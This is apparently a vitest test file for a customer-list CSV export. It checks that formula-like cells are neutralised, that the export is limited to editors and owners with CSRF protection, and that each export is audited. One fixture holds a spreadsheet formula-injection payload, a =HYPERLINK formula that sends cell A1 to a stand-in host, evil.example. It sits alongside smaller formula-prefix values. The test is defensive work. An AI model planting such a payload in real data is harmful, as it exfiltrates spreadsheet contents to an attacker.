/**
 * "Export CSV" on the customers page, on both databases: the file a spreadsheet would open
 * (every customer, or every match of the search however many the page shows, with a hostile
 * `=HYPERLINK(…)` name neutralised), editors and owners only (a viewer's forged post is refused
 * and nothing is audited), and each export in the staff audit without the typed search text.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { upsertCustomers } from '../../src/db/customers.js';
import { listStaffAudit } from '../../src/db/staff-audit.js';
import { CONSOLE_PAGES } from '../../src/console/pages.js';
import { databases } from '../support/databases.js';
import { customer } from '../support/records.js';
import { seedUser, session, startTestConsole, type TestConsole } from '../support/console.js';

const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")';

/** The rows a spreadsheet would read, header first, as objects. */
function rowsOf(csv: string): Array<Record<string, string>> {
  return parse(csv, { columns: true, skip_empty_lines: true }) as Array<Record<string, string>>;
}

describe.each(databases())('customer list export on %s', (db) => {
  const url = db.fresh('file');
  let c: TestConsole;

  beforeAll(async () => {
    c = await startTestConsole(url(), { pages: [...CONSOLE_PAGES] });
    const now = c.clock.now;
    await upsertCustomers(
      c.db.knex,
      [
        customer('c-001', { email: 'ann@shop.test', first_name: 'Ann', tags: ['vip'] }),
        customer('c-002', {
          email: 'mallory@shop.test',
          first_name: HOSTILE,
          last_name: '+1 555 0100',
          tags: ['vip'],
          attributes: { note: '@SUM(1+1)', plan: '-gold' },
        }),
        ...Array.from({ length: 60 }, (_, i) =>
          customer(`m-${String(i).padStart(3, '0')}`, {
            email: `many${String(i).padStart(3, '0')}@shop.test`,
          }),
        ),
      ],
      now,
    );
    await seedUser(c, 'ed@example.com', 'editor');
    await seedUser(c, 'ow@example.com', 'owner');
    await seedUser(c, 'vi@example.com', 'viewer');
  }, 60_000);
  afterAll(async () => {
    await c?.close();
  });

  it('exports every customer as CSV with formula-like cells neutralised', async () => {
    const editor = await session(c, 'ed@example.com');
    const res = await editor.post('/console/customers/export', { q: '' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="customers-2027-03-10.csv"');
    expect(res.headers['cache-control']).toMatch(/no-store/);
    expect(res.body.split('\r\n')[0]).toMatch(/^id,email,first_name,last_name,/);
    const rows = rowsOf(res.body);
    expect(rows).toHaveLength(62);
    const mallory = rows.find((r) => r.id === 'c-002');
    // A spreadsheet shows these as text: none starts with = + - @ any more.
    expect(mallory).toMatchObject({
      email: 'mallory@shop.test',
      first_name: `'${HOSTILE}`,
      last_name: "'+1 555 0100",
      note: "'@SUM(1+1)",
      plan: "'-gold",
      tags: 'vip',
    });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports every match of the search, not only the 50 the page shows', async () => {
    const owner = await session(c, 'ow@example.com');
    const page = await owner.get('/console/customers?q=many');
    expect(page.body.match(/href="\/console\/customers\/m-/g)).toHaveLength(50);
    expect(page.body).toMatch(/<input type="hidden" name="q" value="many"/);
    const all = rowsOf((await owner.post('/console/customers/export', { q: 'many' })).body);
    expect(all.map((r) => r.id)).toEqual(
      Array.from({ length: 60 }, (_, i) => `m-${String(i).padStart(3, '0')}`),
    );
    const vip = rowsOf((await owner.post('/console/customers/export', { q: 'tag:vip' })).body);
    expect(vip.map((r) => r.id)).toEqual(['c-001', 'c-002']);
    // A name prefix, as the search reads it.
    const named = rowsOf((await owner.post('/console/customers/export', { q: 'ann' })).body);
    expect(named.map((r) => r.id)).toEqual(['c-001']);
    // LIKE wildcards typed in the search are plain characters.
    expect(rowsOf((await owner.post('/console/customers/export', { q: '%@shop' })).body)).toEqual([]);
  });

  it('is for editors and owners: a viewer sees no export form and a forged post is refused', async () => {
    const before = (await listStaffAudit(c.db.knex, 100)).filter(
      (a) => a.action === 'customers.export',
    ).length;
    const viewer = await session(c, 'vi@example.com');
    const page = await viewer.get('/console/customers');
    expect(page.body).not.toContain('action="/console/customers/export"');
    expect(page.body).toContain('Editors and owners can export the customer list');
    const forged = await viewer.post('/console/customers/export', { q: '' });
    expect(forged.statusCode).toBe(403);
    expect(forged.body).not.toContain('mallory@shop.test');
    const after = (await listStaffAudit(c.db.knex, 100)).filter(
      (a) => a.action === 'customers.export',
    ).length;
    expect(after).toBe(before);
    // Without the session's CSRF token even an editor's post is refused.
    const editor = await session(c, 'ed@example.com');
    const noToken = await c.app.inject({
      method: 'POST',
      url: '/console/customers/export',
      headers: {
        cookie: editor.cookie,
        'content-type': 'application/x-www-form-urlencoded',
        origin: 'http://127.0.0.1:8080',
      },
      payload: 'q=',
    });
    expect(noToken.statusCode).toBe(403);
  });

  it('records each export in the staff audit, without the text typed in the search', async () => {
    const editor = await session(c, 'ed@example.com');
    expect((await editor.post('/console/customers/export', { q: 'tag:vip' })).statusCode).toBe(200);
    expect((await editor.post('/console/customers/export', { q: 'mallory@shop.test' })).statusCode).toBe(200);
    const [search, tag] = await listStaffAudit(c.db.knex, 2);
    expect(tag).toMatchObject({
      actor: 'ed@example.com',
      action: 'customers.export',
      target: null,
      detail: { scope: 'tag', tag: 'vip' },
      at: c.clock.now,
    });
    expect(search).toMatchObject({
      actor: 'ed@example.com',
      action: 'customers.export',
      detail: { scope: 'search' },
    });
    expect(JSON.stringify(search)).not.toContain('mallory');
  });
});
